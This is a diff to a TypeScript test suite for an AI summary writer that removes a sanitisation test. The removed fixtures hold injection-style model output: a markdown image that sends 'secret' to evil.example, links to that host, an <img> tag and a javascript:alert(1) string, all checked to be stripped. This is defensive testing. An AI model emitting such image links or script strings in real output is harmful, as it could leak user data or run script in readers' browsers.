@@ -84,36 +84,6 @@ describe("WRITER=openai (any compatible server)", () => {
     expect(calls).toHaveLength(1);
   });
 
-  it("links and images are taken out of what the model wrote, and unknown labels out of its quotes", async () => {
-    const sly = {
-      ...answer,
-      overview:
-        "See ![x](https://evil.example/?q=secret) [the page](https://evil.example) now, https://evil.example/a.",
-      actionItems: [
-        {
-          task: "**Open** <img src=x> [here][1] javascript:alert(1)",
-          quotes: [
-            { source: "m9", quote: "x" },
-            { source: "[M1]", quote: "y" },
-          ],
-        },
-      ],
-      decisions: [],
-    };
-    const { writer } = openAi([() => completion(sly)]);
-    const written = await writer.write(material);
-    expect(written.overview).toBe("See x the page now,");
-    expect(written.actionItems).toEqual([
-      {
-        task: "Open here",
-        owner: null,
-        timeline: null,
-        urgency: "none",
-        quotes: [{ kind: "email", id: "mail-a", quote: "y" }],
-      },
-    ]);
-  });
-
   it("a server that does not know response_format, or max_tokens, is asked without", async () => {
     const picky = (unknown: string) => (call: Call) =>
       unknown in call.body
